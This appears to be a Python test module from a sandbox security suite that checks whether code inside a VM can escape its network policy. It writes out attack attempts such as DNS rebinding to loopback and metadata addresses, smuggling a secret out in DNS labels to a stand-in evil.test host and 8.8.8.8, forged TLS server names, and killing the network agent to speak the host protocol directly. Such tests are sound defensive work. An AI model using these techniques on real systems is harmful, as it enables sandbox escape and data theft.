"""Names and their addresses: a network of the suite with a resolver that is on the side of the code
inside, what that code tries with it, and what came of it.

Root makes the network when it is needed. A normal user cannot: whoever has root makes it before, starts
the suite in it, and names the descriptor of the resolver's socket in ESCAPE_RESOLVER.
"""

import base64
import concurrent.futures
import contextlib
import ctypes
import os
import socket
import struct
import subprocess
import tempfile
import threading

import inside
from host import Unusable, wait_until

CLONE_NEWNS, CLONE_NEWNET = 0x00020000, 0x40000000
A, AAAA = 1, 28
# What is said on the network port.
MAGIC, VERSION, HEAD = 0x6e786f62, 2, struct.Struct("<IBBHI")
HELLO, RESOLVE, RESOLVED, OPEN, OPENED, FAILED, DENIED = 1, 2, 3, 4, 5, 6, 2
# Of space that is given out to networks far away, so it counts as public; here it is the suite's own.
PUBLIC, RESOLVER = "45.0.0.1", "127.0.0.53"
CONF = f"nameserver {RESOLVER}\n"
# What a name must not lead to: the host itself, what is beside it, and other ways to write them.
FORBIDDEN = ["127.0.0.1", "127.0.0.53", "0.0.0.0", "169.254.169.254", "10.0.0.1", "172.17.0.1",
             "192.168.1.1", "100.64.0.1", "::1", "::ffff:127.0.0.1", "64:ff9b::7f00:1",
             "2002:7f00:1::", "fd00::1", "fe80::1"]
# So that any number of questions for one connection sees each of them: it divides no other.
IN_TURN = [PUBLIC, "127.0.0.1", "127.0.0.1", PUBLIC, "127.0.0.1"]
NO_NETWORK = "a normal user cannot make a network with a resolver for it; root can"


def make_network():
    """Gives this thread, and all that it starts from now on, a network without a way out and another
    resolv.conf. Returns the socket of the resolver in it, which a normal user could not bind."""
    if ctypes.CDLL(None, use_errno=True).unshare(CLONE_NEWNS | CLONE_NEWNET):
        raise OSError(ctypes.get_errno(), "a network of its own: " + os.strerror(ctypes.get_errno()))
    for command in ("mount --make-rprivate /", "ip link set lo up",
                    f"ip address add {PUBLIC}/32 dev lo"):
        subprocess.run(command.split(), check=True)
    with open("/etc/resolv.conf", encoding="utf-8", errors="replace") as file:
        before = file.read()
    # One that was made for this before stays: nothing can be mounted over a file that is gone.
    if before != CONF:
        with tempfile.NamedTemporaryFile("w", encoding="ascii") as file:
            os.chmod(file.name, 0o644)
            file.write(CONF)
            file.flush()
            subprocess.run(["mount", "--bind", file.name, "/etc/resolv.conf"], check=True)
    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    server.bind((RESOLVER, 53))
    return server


def wire_string(text):
    data = text.encode() + b"\0"
    return struct.pack("<I", len(data)) + data


def frame(kind, number, payload):
    """A frame of the network port, as box-guest sends it (src/wire/frame.h, src/wire/net.h)."""
    return HEAD.pack(len(payload), kind, 0, 0, number) + payload


def open_payload(target, port):
    """To a name or a literal address."""
    for family, kind in ((socket.AF_INET, 4), (socket.AF_INET6, 6)):
        with contextlib.suppress(OSError):
            return struct.pack("<BH", kind, port) + socket.inet_pton(family, target)
    return struct.pack("<BH", 0, port) + wire_string(target)


class Resolver:
    """Has for a name a tuple of addresses, or a list of which each question for A gets the next one; and
    notes the names that it was asked for."""

    def __init__(self, server):
        self.server, self.zone, self.asked = server, {}, []
        threading.Thread(target=self._run, daemon=True).start()

    def _run(self):
        while True:
            question, peer = self.server.recvfrom(4096)
            self.server.sendto(self._answer(question), peer)

    def _answer(self, question):
        labels, at = [], 12
        while question[at]:
            labels.append(question[at + 1:at + 1 + question[at]].decode("latin-1"))
            at += 1 + question[at]
        kind, = struct.unpack(">H", question[at + 1:at + 3])
        name = ".".join(labels).lower()
        self.asked.append(name)
        addresses = self.zone.get(name, ())
        if isinstance(addresses, list):
            if kind == A:
                self.zone[name] = addresses[1:] + addresses[:1]
            addresses = addresses[:1]
        found = [each for each in addresses if (":" in each) == (kind == AAAA)]
        # A time to live of 0: the next look asks again.
        records = b"".join(
            b"\xc0\x0c" + struct.pack(">HHIH", kind, 1, 0, len(data)) + data for data in
            (socket.inet_pton(socket.AF_INET6 if kind == AAAA else socket.AF_INET, each)
             for each in found))
        head = question[:2] + struct.pack(">HHHHH", 0x8180 if addresses else 0x8183, 1, len(found), 0, 0)
        return head + question[12:at + 5] + records


class Reader:
    """Takes what comes on a port of the public address, to its end."""

    def __init__(self):
        self.came = []
        self.server = socket.create_server((PUBLIC, 0))
        self.port = self.server.getsockname()[1]
        threading.Thread(target=self._run, daemon=True).start()

    def _run(self):
        while True:
            peer, _ = self.server.accept()
            data = b""
            with peer:
                while more := peer.recv(4096):
                    data += more
            self.came.append(data)


def client_hello(name):
    """How a TLS client begins that wants to speak to name (RFC 8446, 4.1.2; RFC 6066, 3)."""
    server = struct.pack(">BH", 0, len(name)) + name.encode()
    extension = struct.pack(">HHH", 0, len(server) + 2, len(server)) + server
    body = b"\3\3" + bytes(32) + b"\0" + struct.pack(">HH", 2, 0x1301) + b"\1\0" + \
        struct.pack(">H", len(extension)) + extension
    return b"\x16\3\1" + struct.pack(">HBBH", len(body) + 4, 1, 0, len(body)) + body


class Trial:
    """A machine of `first` in that network; each check is a method."""

    def __init__(self, suite, resolver):
        self.suite, self.resolver = suite, resolver
        self.listener, self.reader = inside.Listener(), Reader()
        ports = (self.listener.port, self.reader.port)
        self.allowed = [f"{name}.test:{port}" for name in ("good", "moves", "*.bound") for port in ports]

    def connect(self, *names):
        """Those of the names that code inside could connect to, and what box-net says of each look."""
        before = len(self.suite.net_log())
        port = self.listener.port
        reached = self.suite.inside("first", "".join(
            f"nc -w 5 {name} {port} </dev/null >/dev/null 2>&1 && echo {name}\n"
            for name in names) + "true").split()
        return reached, [row for row in self.suite.net_log()[before:]
                         if row.get("event") == "connected"]

    def judge(self, rows):
        """Nobody was connected to but the public address, neither by what came nor by the log."""
        for address in sorted({each.removeprefix("::ffff:") for each in self.listener.came} - {PUBLIC}):
            yield f"the host's listener got a connection at {address}"
        for row in rows:
            if row["allowed"] and row.get("address") != PUBLIC:
                yield f"box-net allowed {row['host']} at {row.get('address', 'an address of no use')}"
            elif not row["allowed"] and not row.get("special"):
                yield f"box-net refused {row['host']} for another reason: {row}"

    def control(self):
        """First of all: a name that leads where it may. Else every silence here would be blind."""
        self.resolver.zone["good.test"] = [PUBLIC]
        reached, rows = self.connect("good.test")
        if not reached or "good.test" not in self.resolver.asked:
            raise Unusable(f"good.test was not reached, so this look is blind: {rows}")
        self.listener.came.clear()

    def rebinding(self):
        """A name that is allowed, in the hands of somebody who has it lead to the host."""
        names = {f"n{number}.bound.test": each for number, each in enumerate(FORBIDDEN)}
        self.resolver.zone.update({name: [each] for name, each in names.items()})
        # One good address among them opens no other.
        self.resolver.zone["all.bound.test"] = ("127.0.0.1", "169.254.169.254", PUBLIC, "::1")
        reached, rows = self.connect(*names, "all.bound.test")
        yield from self.judge(rows)
        for name in reached:
            if name in names:
                yield f"{name}, which is {names[name]}, was reached"
        seen = {row["host"]: row.get("address") for row in rows}
        for name, address in {**names, "all.bound.test": PUBLIC}.items():
            if name not in seen:
                yield f"box-net was not asked for {name}, so this look is blind"
            elif seen[name] != address:
                yield f"box-net looked at {seen[name]} for {name}, not at {address}"

    def moved_name(self):
        """A name that is public at the first look, and then another one."""
        self.listener.came.clear()
        self.resolver.zone["moves.test"] = [PUBLIC]
        reached, rows = self.connect("moves.test")
        if not reached:
            yield f"moves.test was not reached while it was public, so this look is blind: {rows}"
        for address in ("127.0.0.1", "169.254.169.254", "::1"):
            self.resolver.zone["moves.test"] = [address]
            reached, more = self.connect("moves.test")
            rows += more
            if reached or not more:
                yield f"moves.test at {address} was {'reached' if reached else 'not tried'}"
        # From one question to the next: what is connected to is what was looked at, not what is asked
        # for once more.
        self.resolver.zone["moves.test"] = list(IN_TURN)
        reached, more = self.connect(*["moves.test"] * len(IN_TURN))
        if not 0 < len(reached) < len(IN_TURN):
            yield f"{len(reached)} of {len(IN_TURN)} looks at moves.test led on, so this look is blind"
        yield from self.judge(rows + more)

    def dns_labels(self):
        """What is written into a name leaves only when the policy has that name."""
        word = self.suite.secret.lower()
        names = [f"{word}.evil.test", f"{word}.good.test", f"a.{word}.good.test", f"good.test.{word}.test",
                 f"{word}.test"]
        before = len(self.suite.net_log())
        self.suite.inside("first", f"for name in {' '.join(names)} {names[1].upper()}.; do\n"
                          f"  nslookup $name; nc -w 5 $name {self.listener.port} </dev/null\n"
                          "  for server in 198.18.0.1 8.8.8.8; do\n"
                          "    timeout 10 nslookup -type=txt $name $server\n"
                          "    timeout 10 nslookup -type=a $name $server\n"
                          "  done\ndone >/dev/null 2>&1; true")
        for name in sorted({each for each in self.resolver.asked if word in each}):
            yield f"the resolver was asked for {name.replace(word, 'SECRET')}"
        seen = {row["host"]: row["allowed"] for row in self.suite.net_log()[before:]
                if row.get("event") == "asked"}
        for name in names:
            if seen.get(name) is not False:
                yield f"box-net has not refused {name.replace(word, 'SECRET')}, so this look is blind"

    def server_name(self):
        """A server that is asked for under another name is allowed, by the name that was connected to;
        and noted."""
        hellos = {name: client_hello(name) for name in ("good.test", "other.test", "late.test")}
        text = "\n".join(
            f"{{ echo {base64.b64encode(data[:60]).decode()} | base64 -d; sleep {pause}; "
            f"echo {base64.b64encode(data[60:]).decode()} | base64 -d; }} | "
            f"nc good.test {self.reader.port}"
            for data, pause in zip(hellos.values(), (0, 0, 1)))
        before = len(self.suite.net_log())
        self.suite.inside("first", text + "\ntrue")

        def find():
            rows = [row for row in self.suite.net_log()[before:] if row.get("event") == "ended"]
            return rows if len(rows) == len(hellos) else []
        noted = [row.get("sni") for row in wait_until(find, 60)]
        if self.reader.came != list(hellos.values()):
            yield f"the server got {self.reader.came}, so this look is blind"
        if noted != [None, "other.test", "late.test"]:
            yield f"the log notes {noted} for connections to good.test as {', '.join(hellos)}"
        shown = self.suite.box.run("net", "first").ok().out
        if "good.test (TLS: other.test)" not in shown:
            yield "`box net` does not show that other.test was asked for at good.test"


    def own_agent(self):
        """Root inside ends the agent of the network, with which its BPF program is unloaded, and speaks to
        box-net itself. It loses its network, and gains nothing."""
        self.resolver.asked.clear()
        self.listener.came.clear()
        word, port = self.suite.secret.lower(), self.listener.port
        gone = self.suite.inside(
            "first", "kill -9 $(pidof box-net-agent); while pidof box-net-agent; do usleep 10000; done; "
            f"nc -w 5 good.test {port} </dev/null && echo reached good.test; "
            f"nc -w 5 {PUBLIC} {port} </dev/null && echo reached {PUBLIC}; true")
        if gone or self.listener.came or self.resolver.asked:
            yield f"without its agent the machine has {gone.strip() or 'a network'}"
        # What may be opened comes first, so that a silence is not a frame of ours that is wrong.
        wanted = ["good.test", PUBLIC, *FORBIDDEN, f"{word}.test", f"{word}.good.test", "localhost"]
        frames = frame(HELLO, 0, struct.pack("<IQH", MAGIC, 1, VERSION)) + b"".join(
            frame(OPEN, number, open_payload(target, port)) for number, target in enumerate(wanted, 1))
        frames += b"".join(frame(RESOLVE, 0, struct.pack("<I", token) + wire_string(f"{token}.{word}.test"))
                           for token in range(8))
        self.suite.box.run(
            "exec", "--detach", "first", "--", "sh", "-c",
            'for port in /sys/class/virtio-ports/*; do\n'
            '  [ "$(cat "$port/name")" = box.net ] && exec 3<>"/dev/${port##*/}"\ndone\n'
            f"echo {base64.b64encode(frames).decode()} | base64 -d >&3\nexec cat <&3 >/tmp/answers").ok()

        def find():
            text = self.suite.inside("first", "base64 /tmp/answers 2>/dev/null; true")
            data, at, found = base64.b64decode(text), 0, []
            while len(data) - at >= HEAD.size:
                length, kind, _, _, number = HEAD.unpack_from(data, at)
                found.append((kind, number, data[at + HEAD.size:at + HEAD.size + length]))
                at += HEAD.size + length
            said = [each for each in found if each[0] in (OPENED, FAILED, RESOLVED)]
            return said if len(said) >= len(wanted) + 8 else None
        for kind, number, payload in wait_until(find, 60):
            if kind == RESOLVED and payload[4] != DENIED:
                yield f"a name with the secret in it was answered with {payload[4]}"
            elif kind != RESOLVED and (kind == OPENED) != (number == 1):
                yield f"{wanted[number - 1].replace(word, 'SECRET')} was " \
                    f"{'opened' if kind == OPENED else 'not opened, so this look is blind'}"
        yield from self.judge([])
        for name in sorted(set(self.resolver.asked) - {"good.test"}):
            yield f"the resolver was asked for {name.replace(word, 'SECRET')}"


# The last one leaves the machine without a network.
CHECKS = {"rebinding": Trial.rebinding, "moved-name": Trial.moved_name,
          "dns-labels": Trial.dns_labels, "server-name": Trial.server_name, "own-agent": Trial.own_agent}


def given_resolver():
    """The resolver of a network that was made before, or None."""
    number = os.environ.pop("ESCAPE_RESOLVER", None)
    return Resolver(socket.socket(fileno=int(number))) if number else None


def look(suite):
    """Tries them all in the suite's network, by a thread that is in it."""
    if not suite.resolver and os.getuid() != 0:
        return {name: NO_NETWORK for name in CHECKS}

    def work():
        trial = Trial(suite, suite.resolver or Resolver(make_network()))
        suite.stop("first")
        allowed = ", ".join(f'"{each}"' for each in trial.allowed)
        suite.box.boxfile("first", suite.lines(f"network: {{allow: [{allowed}]}}"))
        try:
            suite.start("first")
            trial.control()
            return {name: list(function(trial)) for name, function in CHECKS.items()}
        finally:
            suite.stop("first")
            suite.box.boxfile("first", suite.boxfiles["first"])
            trial.listener.close()
    with concurrent.futures.ThreadPoolExecutor(1) as pool:
        return pool.submit(work).result()
